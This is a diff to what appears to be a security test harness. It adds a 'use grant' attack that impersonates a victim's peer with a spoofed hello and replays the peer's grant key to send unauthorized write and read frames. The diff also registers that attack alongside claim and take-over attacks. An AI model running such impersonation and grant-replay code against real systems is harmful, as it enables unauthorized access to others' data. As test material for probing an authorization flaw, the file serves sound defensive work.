@@ -186,8 +186,24 @@ def notices(victim: str, key: str) -> None:
         print("notice", "cut" if gone else "taken", flush=True)
 
 
+def use_grant(victim: str, peer: str, key: str) -> None:
+    """Uses a grant that was given to the victim's peer, under the id of that peer. Tells of the answers."""
+    at, claimed = Place.of(victim), Place.of(peer)
+    connection = enter(at, hello(claimed, claimed.claimed_as_address(), at))
+    assert connection
+    number = int(key)
+    for name, request in {
+        "put": frame(WRITE, b"!" * 8, LAST, number, total=8),
+        "put with data": frame(WRITE, b"!" * 8, LAST | REMOTE_DATA, number, total=8, data=666),
+        "get": frame(READ, key=number, total=8),
+    }.items():
+        connection.sendall(request)
+        print(name, struct.unpack_from("<B", connection.recv(48, socket.MSG_WAITALL))[0], flush=True)
+
+
 if __name__ == "__main__":
-    {"claim": claim, "take over": take_over, "notices": notices}[sys.argv[1]](*sys.argv[2:])
+    attacks = {"claim": claim, "take over": take_over, "notices": notices, "use grant": use_grant}
+    attacks[sys.argv[1]](*sys.argv[2:])
     print("ready", flush=True)
     sys.stdin.read()
     BUSY.acquire(timeout=PATIENCE)
